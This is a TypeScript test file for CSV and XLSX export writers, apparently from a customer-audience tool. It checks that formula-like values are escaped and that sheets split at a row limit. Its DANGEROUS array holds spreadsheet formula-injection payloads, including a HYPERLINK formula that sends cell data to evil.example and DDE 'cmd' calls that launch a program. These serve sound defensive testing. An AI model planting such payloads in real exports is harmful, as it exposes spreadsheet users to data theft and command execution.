import { Writable } from "node:stream";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { csvWriter, xlsxWriter } from "./file-writers";
import { neutraliseFormula } from "./formula-cells";

const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

function memory() {
  const chunks: Buffer[] = [];
  const out = new Writable({
    write(chunk, _encoding, done) {
      chunks.push(Buffer.from(chunk));
      done();
    },
  });
  return { out, bytes: () => Buffer.concat(chunks) };
}

describe("neutraliseFormula", () => {
  it("prefixes a cell a spreadsheet would run as a formula with ' and changes nothing else", () => {
    for (const text of DANGEROUS) expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it("leaves numbers, E.164 phone numbers and ordinary text as they are", () => {
    for (const text of [
      "-12.5",
      "+3",
      "-0",
      "1e5",
      "-.5",
      "+447700900123",
      "+420601123456",
      "Anna",
      "",
      "a=b",
      "x-1",
    ]) {
      expect(neutraliseFormula(text)).toBe(text);
    }
    // Not only digits after +: a formula.
    expect(neutraliseFormula("+44 7700 900123")).toBe("'+44 7700 900123");
    expect(neutraliseFormula("-1-1")).toBe("'-1-1");
  });
});

describe("export files", () => {
  it("CSV: formula-like names get a leading ', numbers and phones stay", async () => {
    const { out, bytes } = memory();
    const writer = csvWriter(["first_name", "phone_number", "clv_value"], out);
    await writer.addRows([...DANGEROUS.map((name) => [name, "+447700900123", -3.5]), ["Anna", "-5", 12]]);
    await writer.finish();
    const text = bytes().toString("utf8");
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(text).toContain("'+cmd|' /C calc'!A0,+447700900123,-3.5\r\n");
    expect(text).toContain("'@SUM(1+1)");
    expect(text).toContain("'\t=1+1");
    expect(text).toContain(`"'\r=1+1"`);
    expect(text).toContain("Anna,-5,12\r\n");
    expect(text.split("\r\n")[0]).toBe("first_name,phone_number,clv_value");
  });

  it("XLSX: every text cell is a string, never a formula", async () => {
    const { out, bytes } = memory();
    const writer = xlsxWriter(["first_name", "clv_value"], "Customers", out);
    await writer.addRows(DANGEROUS.map((name) => [name, 1]));
    await writer.finish();
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes() as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    DANGEROUS.forEach((name, i) => {
      const cell = sheet.getRow(i + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      // XML reads a bare carriage return back as a line feed; the text is otherwise the name.
      expect(cell.value).toBe(name.replace("\r", "\n"));
      expect(cell.formula).toBeUndefined();
    });
  });
});

describe("xlsxWriter sheets", () => {
  it("starts a new sheet with the same header when one is full, and loses no row", async () => {
    const { out, bytes } = memory();
    const writer = xlsxWriter(["customer_id", "clv_value"], "Big spenders", out, 3);
    await writer.addRows([1, 2, 3, 4, 5].map((n) => [`c${n}`, n]));
    await writer.addRows([6, 7].map((n) => [`c${n}`, n]));
    await writer.finish();
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes() as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(["Big spenders", "Big spenders (2)", "Big spenders (3)"]);
    const read = workbook.worksheets.map((s) => {
      const rows: unknown[][] = [];
      s.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
      return rows;
    });
    expect(read[0]).toEqual([
      ["customer_id", "clv_value"],
      ["c1", 1],
      ["c2", 2],
      ["c3", 3],
    ]);
    expect(read[1]).toEqual([
      ["customer_id", "clv_value"],
      ["c4", 4],
      ["c5", 5],
      ["c6", 6],
    ]);
    expect(read[2]).toEqual([
      ["customer_id", "clv_value"],
      ["c7", 7],
    ]);
  });

  it("keeps a long audience name's suffix inside Excel's 31 characters", async () => {
    const { out, bytes } = memory();
    const writer = xlsxWriter(["customer_id"], "A very long audience name that goes on", out, 1);
    await writer.addRows([["c1"], ["c2"]]);
    await writer.finish();
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes() as unknown as ArrayBuffer);
    const names = workbook.worksheets.map((s) => s.name);
    expect(names).toEqual(["A very long audience name that", "A very long audience name t (2)"]);
    for (const name of names) expect(name.length).toBeLessThanOrEqual(31);
  });
});
